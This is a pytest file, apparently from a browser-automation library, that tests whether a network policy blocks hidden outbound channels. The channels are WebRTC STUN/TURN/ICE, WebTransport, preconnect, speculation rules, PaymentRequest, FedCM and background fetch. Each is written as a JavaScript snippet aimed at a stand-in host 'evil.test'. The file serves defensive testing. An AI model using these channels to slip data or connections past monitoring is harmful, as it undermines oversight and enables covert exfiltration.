"""Ways out that no request shows: WebRTC, WebTransport, preconnects, speculation, held sockets."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Iterator

import pytest
import pytest_asyncio

import cdp_agent
from cdp_agent import Browser, InvalidParams, Page, Policy
from cdp_agent.targets.network.policy import HeldRequest
from tests.browser.conftest import BROWSER_ARGS
from tests.support.devtools import devtools_port_and_path
from tests.support.site import Request, Response, Site


class Silent:
    """Listens on one port for UDP and TCP, and counts what comes."""

    def __init__(self) -> None:
        self._tcp = socket.socket()
        self._tcp.bind(("127.0.0.1", 0))
        self._tcp.listen(50)
        self.port = int(self._tcp.getsockname()[1])
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for one in (self._tcp, self._udp):
            one.setblocking(False)

    def heard(self) -> list[str]:
        found = []
        try:
            self._udp.recv(2000)
            found.append("udp")
        except BlockingIOError:
            pass
        try:
            self._tcp.accept()[0].close()
            found.append("tcp")
        except BlockingIOError:
            pass
        return found

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def silent() -> Iterator[Silent]:
    listener = Silent()
    yield listener
    listener.close()


def allowed(site: Site) -> Policy:
    return Policy((f"http://localhost:{site.port}", f"http://a.test:{site.port}"))


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def launched(site: Site) -> AsyncIterator[Browser]:
    async with cdp_agent.launch(args=BROWSER_ARGS, policy=allowed(site)) as browser:
        yield browser


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def connected(site: Site, browser: Browser) -> AsyncIterator[Browser]:
    assert browser.user_data_dir is not None
    port, _ = devtools_port_and_path(browser)
    async with cdp_agent.connect(f"http://127.0.0.1:{port}", policy=allowed(site)) as found:
        yield found


#: `done()` tells that the attempt is over, one way or the other; OUT is a host with a port.
STUN = """const peer = new Peer({iceServers: [{urls: 'stun:OUT'},
  {urls: ['turn:OUT?transport=udp', 'turn:OUT?transport=tcp'], username: 'a', credential: 'b'}]});
peer.createDataChannel('x');
peer.onicegatheringstatechange = () => peer.iceGatheringState == 'complete' && done();
peer.createOffer().then(offer => peer.setLocalDescription(offer)); setTimeout(done, 1500);"""
ICE = """const peer = new Peer(); peer.createDataChannel('y');
peer.createOffer().then(async offer => {
  await peer.setLocalDescription(offer);
  const sdp = peer.localDescription.sdp.replace('actpass', 'active').replace(
    /a=ice-ufrag:.*/, 'a=ice-ufrag:abcd').replace(
    /a=ice-pwd:.*/, 'a=ice-pwd:abcdefghijklmnopqrstuvwx').replace(/a=candidate.*\\r\\n/g, '');
  await peer.setRemoteDescription({type: 'answer', sdp});
  const candidate = 'candidate:1 1 udp 2113937151 127.0.0.1 PORT typ host';
  await peer.addIceCandidate({candidate, sdpMid: '0', sdpMLineIndex: 0});
}).catch(done); setTimeout(done, 1500);"""
WAYS = {
    "STUN and TURN": f"const Peer = RTCPeerConnection; {STUN}",
    "ICE": f"const Peer = RTCPeerConnection; {ICE}",
    "STUN of an empty frame": "const frame = document.body.appendChild(document.createElement("
    f"'iframe')); const Peer = frame.contentWindow.RTCPeerConnection; {STUN}",
    "WebTransport": "const way = new WebTransport('https://OUT/'); way.closed.catch(() => 0);"
    "way.ready.then(done, done); setTimeout(done, 1500);",
    "preconnect": 'document.head.innerHTML += \'<link rel=preconnect href="http://OUT">'
    '<link rel=dns-prefetch href="http://OUT">\'; setTimeout(done, 700);',
    "speculation rules": "const rules = document.createElement('script');"
    "rules.type = 'speculationrules'; rules.textContent = JSON.stringify({"
    "prefetch: [{urls: ['http://OUT/a'], eagerness: 'immediate'}],"
    "prerender: [{urls: ['http://OUT/b'], eagerness: 'immediate'}]});"
    "document.head.append(rules); setTimeout(done, 1000);",
    "payment": "new PaymentRequest([{supportedMethods: 'https://OUT/pay'}],"
    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().then(done,"
    " done); setTimeout(done, 1000);",
    "FedCM": "navigator.credentials.get({identity: {providers: [{configURL:"
    "'http://OUT/fedcm.json', clientId: 'x', nonce: 'y'}]}}).then(done, done);"
    "setTimeout(done, 1000);",
    "background fetch": "navigator.serviceWorker.register('/way-worker.js').then(() =>"
    "navigator.serviceWorker.ready).then(one => one.backgroundFetch.fetch('x', ['http://OUT/b'],"
    "{title: 'x'})).then(done, done); setTimeout(done, 1500);",
}
#: These reach the listener in a browser without a policy, which proves that they are ways.
PROVED = {"STUN and TURN", "ICE", "STUN of an empty frame", "WebTransport", "preconnect"}


async def attempt(page: Page, site: Site, way: str, silent: Silent) -> None:
    site.page("onfetch = () => 0", path="/way-worker.js", content_type="text/javascript")
    script = WAYS[way].replace("OUT", f"evil.test:{silent.port}").replace("PORT", str(silent.port))
    url = site.page("<body>", host="localhost")
    await page.goto(url)
    await page.evaluate(f"new Promise(done => {{ try {{ {script} }} catch (error) {{ done() }} }})")


@pytest.mark.parametrize("way", WAYS)
async def test_a_launched_browser_does_not_get_out(
    launched: Browser, site: Site, silent: Silent, way: str
) -> None:
    page = await launched.new_page()
    await attempt(page, site, way, silent)
    await page.close()
    assert silent.heard() == []


@pytest.mark.parametrize("way", WAYS)
async def test_a_page_of_a_found_browser_does_not_get_out(
    connected: Browser, site: Site, silent: Silent, way: str
) -> None:
    page = await connected.new_page()
    await attempt(page, site, way, silent)
    await page.close()
    assert silent.heard() == []


@pytest.mark.parametrize("way", sorted(PROVED))
async def test_they_are_ways(page: Page, site: Site, silent: Silent, way: str) -> None:
    for _try in range(3):  # a lookup or a packet may be late on a loaded machine
        await attempt(page, site, way, silent)
        if silent.heard():
            return
    pytest.fail(f"{way} reaches nobody")


async def test_a_found_browsers_own_pages_are_not_offered(
    connected: Browser, page: Page, site: Site
) -> None:
    """Their sockets cannot be held."""
    other = await connected.new_page(site.page("<p>x", host="localhost"))
    assert [one.target_id for one in connected.pages] == [other.target_id]
    await other.close()


@pytest.mark.parametrize("flag", ["--proxy-server=x:1", "--no-proxy-server"])
def test_a_flag_that_opens_what_a_policy_closes_is_refused(flag: str) -> None:
    with pytest.raises(InvalidParams):
        cdp_agent.launch(args=[flag], policy=Policy(("https://shop.test",)))


async def test_writes_of_any_method_and_by_sockets_are_held(site: Site) -> None:
    asked: list[str] = []

    async def no(held: HeldRequest) -> bool:
        asked.append(held.method)
        return False

    handshakes: list[Request] = []

    def socket_asked(request: Request) -> Response:
        handshakes.append(request)
        return Response(400)

    site.route("/held-socket", socket_asked)
    methods = ["POST", "PUT", "PATCH", "DELETE", "PROPFIND", "MKCOL", "REPORT", "PURGE"]
    async with cdp_agent.launch(args=BROWSER_ARGS, policy=Policy(hold=no)) as browser:
        page = await browser.new_page(site.page("<p>x", host="localhost"))
        await page.evaluate("fetch('/read').then(() => 0)")
        for method in methods:
            await page.evaluate(f"fetch('/held-write', {{method: '{method}'}}).catch(() => 0)")
        address = f"ws://localhost:{site.port}/held-socket"
        closed = f"const s = new WebSocket('{address}'); s.onclose = s.onerror = () => done(1)"
        async with asyncio.timeout(10):
            assert await page.evaluate(f"new Promise(done => {{ {closed} }})") == 1

    assert asked == methods
    assert handshakes == []
    assert not [r for r in site.requests if r.path == "/held-write"]
    assert [r for r in site.requests if r.path == "/read"]
